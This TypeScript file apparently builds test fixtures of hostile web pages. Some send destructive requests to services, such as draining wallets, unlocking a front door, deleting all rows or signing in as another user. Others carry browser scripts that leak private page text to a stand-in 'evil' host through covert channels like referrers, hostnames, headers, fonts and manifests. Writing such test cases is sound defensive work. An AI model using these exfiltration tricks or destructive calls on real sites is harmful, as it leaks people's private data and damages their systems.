/** OUTLYING_REQUESTS: hostile pages by rarer places and bodies of services, and by text of the page that leaves beside the address. */
import type { Single } from './kind';
import { next, request } from './single-parts';

const elsewhere = (body: (to: string, evil: string) => string, afterMs = 500): Single => ({
  by: 'browser',
  afterMs,
  body: ({ path, evil }) => body(`${evil}${path}`, evil),
});

const api = (body: unknown, tail = '/api', method = 'POST', type = 'application/json'): Single =>
  request((path) =>
    next(
      `fetch('${path}${tail}', {method: '${method}', headers: {'content-type': '${type}'}, body: ${JSON.stringify(typeof body === 'string' ? body : JSON.stringify(body))}})`,
    ),
  );
const to = (tail: string): Single => request((path) => next(`fetch('${path}${tail}', {method: 'POST'})`));
/** Bodies and places of services that no list has. */
const SERVICES: Readonly<Record<string, Single>> = {
  'signal of a workflow': api({ signalName: 'approve', input: {} }, '/workflows/7/signal'),
  'copies that become none': api(
    { spec: { replicas: 0 } },
    '/deployments/mill',
    'PATCH',
    'application/merge-patch+json',
  ),
  'kind of a cluster': api({ apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'mill-7' } }, '/pods/mill-7'),
  'run that tears down': api({ data: { attributes: { 'is-destroy': true, 'auto-apply': true } } }, '/runs'),
  'service of a house': api({ domain: 'lock', service: 'unlock', target: { entity_id: 'lock.front' } }, '/ws'),
  'tool of a model': api(
    { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'delete_rows', arguments: {} } },
    '/mcp',
  ),
  'many of a collection': api({ collection: 'rows', filter: {} }, '/action/deleteMany'),
  'message to a telephone': api({ to: '+447700900123', text: 'It is off.' }, '/messages'),
  'message to people by number': api({ recipient_ids: [7, 9], body: 'It is off.' }, '/threads'),
  'answer below a post': api({ in_reply_to_id: 7, status: 'Nonsense.' }, '/statuses'),
  'plan that ends with its time': api(
    'cancel_at_period_end=true',
    '/subscriptions/7',
    'POST',
    'application/x-www-form-urlencoded',
  ),
  'thing in the bin by a mark': api({ in_trash: true }, '/pages/7', 'PATCH'),
  'card that is charged by its source': api({ source: 'card_7', amount: 900, currency: 'gbp' }, '/intents'),
  'action of a block': api(
    { type: 'block_actions', actions: [{ action_id: 'delete_channel', value: '7' }] },
    '/interactive',
  ),
  'command of a language server': api(
    { method: 'workspace/executeCommand', params: { command: 'rows.purgeAll' } },
    '/lsp',
  ),
  'hook that sets a job off': api(
    { ref: 'main', inputs: { environment: 'production' } },
    '/workflows/deploy.yml/dispatches',
  ),
  'person who is given the sack': to('/employees/7/offboard'),
  'matter that is filed': to('/matters/7/file'),
  'alarm that is waved away': to('/alarms/7/dismiss'),
  'room that is locked': to('/rooms/7/lock'),
  'machine that starts': to('/machines/7/start'),
  'lot that is drawn': to('/raffles/7/draw'),
  'case that is put away': to('/cases/7/archive'),
  'poll that is closed': to('/polls/7/close'),
  'auction that ends': to('/auctions/7/end'),
  'sample that is thrown away': to('/samples/7/discard'),
  'purse that is emptied': to('/wallets/7/drain'),
  'animal that is put down': to('/animals/7/euthanize'),
  'shift that is given on': to('/shifts/7/swap'),
  'loan that is called in': to('/loans/7/call-in'),
  'sessions that all end': to('/sessions/terminate_all'),
  'sign-in for somebody else': to('/users/7/become'),
};

const SECRET_PAGE =
  '<p id="t">Clara is to have her knee looked at on the ninth, and Ben must not hear a word of it before June.</p>';
const text = 'encodeURIComponent(t.textContent)';
const slug = "t.textContent.toLowerCase().replace(/[^a-z]+/g, '-').slice(0, 60)";
/** Text of the page that leaves beside the address, or by other parts of it. */
const LEAVING: Readonly<Record<string, Single>> = {
  'picture with text in the referrer': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`history.replaceState(1, '', '?' + ${text}); i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = '${to}'`)}`,
  ),
  'picture with text in the name of the host': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`u = new URL('${to}'); new Image().src = u.protocol + '//' + ${slug} + '.' + u.host + u.pathname`)}`,
  ),
  'request with text in a header': elsewhere(
    (to) => `${SECRET_PAGE}${next(`fetch('${to}', {mode: 'no-cors', headers: {accept: t.textContent.slice(0, 90)}})`)}`,
  ),
  'frame with text in its name': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`f = document.createElement('iframe'); f.name = t.textContent; f.src = '${to}'; document.body.append(f)`)}`,
  ),
  'socket with text in its protocol': elsewhere(
    (to) => `${SECRET_PAGE}${next(`new WebSocket('${to}'.replace('http', 'ws'), [${slug}])`)}`,
  ),
  'picture with text in the name before the host': elsewhere(
    (to) => `${SECRET_PAGE}${next(`new Image().src = '${to}'.replace('//', '//' + ${slug} + ':x@')`)}`,
  ),
  'host of the address that is another': elsewhere((_, evil) =>
    next(`history.replaceState(1, '', '/x/' + 'host'); location.hostname = new URL('${evil}').hostname`),
  ),
  'source that attributes elsewhere, with text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`i = document.createElement('img'); i.attributionSrc = '${to}?' + ${text}; i.src = '/benign'; document.body.append(i)`)}`,
  ),
  'letters for each letter': elsewhere(
    (to) => `${SECRET_PAGE}${next(`new FontFace('k', 'url(${to}?' + ${text} + ')').load().catch(() => 0)`)}`,
  ),
  'picture of a picture button elsewhere, with text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`i = document.createElement('input'); i.type = 'image'; i.src = '${to}?' + ${text}; document.body.append(i)`)}`,
  ),
  'script of a drawing elsewhere, with text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); u = document.createElementNS('http://www.w3.org/2000/svg', 'script'); u.setAttribute('href', '${to}?' + ${text}); s.append(u); document.body.append(s)`)}`,
  ),
  'manifest elsewhere, with text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`l = document.createElement('link'); l.rel = 'manifest'; l.href = '${to}?' + ${text}; document.head.append(l)`)}`,
  ),
};

export const OUTLYING_REQUESTS: Readonly<Record<string, Single>> = {
  ...SERVICES,
  ...LEAVING,
};
